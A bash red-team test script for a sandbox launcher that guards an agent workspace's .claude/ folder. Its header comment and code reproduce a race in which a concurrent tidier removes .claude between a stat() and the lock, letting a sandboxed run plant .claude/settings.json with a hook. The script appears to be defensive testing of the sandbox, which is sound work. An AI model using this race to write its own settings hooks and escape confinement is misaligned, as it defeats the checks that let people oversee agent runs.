#!/usr/bin/env bash
# red team 50: a launcher starting while a tidier removes. find_entry()
# (launcher/protected-paths.c) stat()s the first folder entry (.claude/,
# the first of the defaults) BEFORE hold_parent() locks the workspace
# shared; when a tidier (another run's end, protect_folders_idle = 0, or a
# waiting one waking up) holds the workspace exclusively in between and
# removes .claude, the launcher gets its lock, finds "exists" true, makes
# nothing, and add_present() drops the now missing path silently
# (resolve_below ENOENT -> return 0): the run starts with no bind on
# .claude and the command makes .claude/settings.json. Triggered the way an
# agent does: runs of the workspace in parallel (parallel tool calls), one
# of them planting. Usage: 50-start-race.sh SLUICE [SECONDS] [now|idle]
# [fallback]: with "fallback", the planting runs are Landlock-only (no user
# namespaces: tests/integration/sandbox-lib.sh's fallback), the others not.
NAME=start-race
. "$(dirname "$0")/50-lib.sh"
secs=${2:-120}
cfg=$base/${3:-now}.ini
wrap=
if [ "${4:-}" = fallback ]; then
  wrap() { unshare -U -r "$BASH" -c 'echo 0 >/proc/sys/user/max_user_namespaces && exec setpriv --bounding-set -all -- "$@"' fallback "$@"; }
  wrap true 2>/dev/null || { echo "positive control failed: no Landlock-only fallback here"; exit 1; }
  wrap=wrap
fi
# positive control: .claude taken away while a run covers it (what the
# race does) lets the plant work
r=$base/control; new_repo "$r"
"$S" run -C "$r" --config "$base/now.ini" -- "touch .ready; while [ ! -e .go ]; do sleep 0.1; done; $plant" >"$base/control.out" 2>&1 &
p=$!; bg="$bg $p"
for _ in $(seq 100); do [ -e "$r/.ready" ] && break; sleep 0.1; done
rmdir "$r/.claude" 2>/dev/null; touch "$r/.go"; wait $p
if planted "$r"; then echo "positive control: the plant works once .claude is gone under a run"
else control_failed "$(cat "$base/control.out")"; finish; exit 1; fi

# the mechanism, deterministic: a process that does what the tidier does
# (the workspace locked exclusively, .claude removed, unlocked), 1 s long,
# while a run starts: the launcher has stat()ed .claude before it waits
r=$base/mech; new_repo "$r"; mkdir "$r/.claude"
flock -x "$r" sh -c "sleep 1; rmdir '$r/.claude'" & bg="$bg $!"
sleep 0.2
o=$(XDG_RUNTIME_DIR=$base/xdg $wrap "$S" run -C "$r" --config "$cfg" -- "$plant" 2>&1)
wait; bg=
if planted "$r"; then hole "mechanism: a run started while the workspace was locked by a remover plants $r/.claude/settings.json ($o)"
else echo "mechanism: not planted: $(echo $o | head -c 300)"; fi

# the attack: two loops of ordinary runs, each ending with a tidy, and the
# planting runs beside them, until one plants or the time is up
r=$base/ws; new_repo "$r"
end=$((SECONDS + secs))
for i in 1 2; do
  ( while [ $SECONDS -lt $end ] && [ ! -e "$base/stop" ]; do "$S" run -C "$r" --config "$cfg" -- true >/dev/null 2>&1; done ) &
  bg="$bg $!"
done
n=0
while [ $SECONDS -lt $end ]; do
  n=$((n + 1))
  o=$(XDG_RUNTIME_DIR=$base/xdg $wrap "$S" run -C "$r" --config "$cfg" -- "$plant" 2>&1)
  case $o in *PLANT1ED*) break ;; *"sluice error"*) echo "a planting run was refused: $o"; break ;; esac
done
touch "$base/stop"; for p in $bg; do wait "$p" 2>/dev/null; done; bg=
sleep 3 # a waiting tidier (idle) has its turn
echo "planting runs: $n in $secs s at most; left in the work tree: $(left_in "$r")"
# checked from outside, after every run ended
if planted "$r"; then hole "$r/.claude/settings.json holds the command's hook: $(cat "$r/.claude/settings.json")"; fi
finish
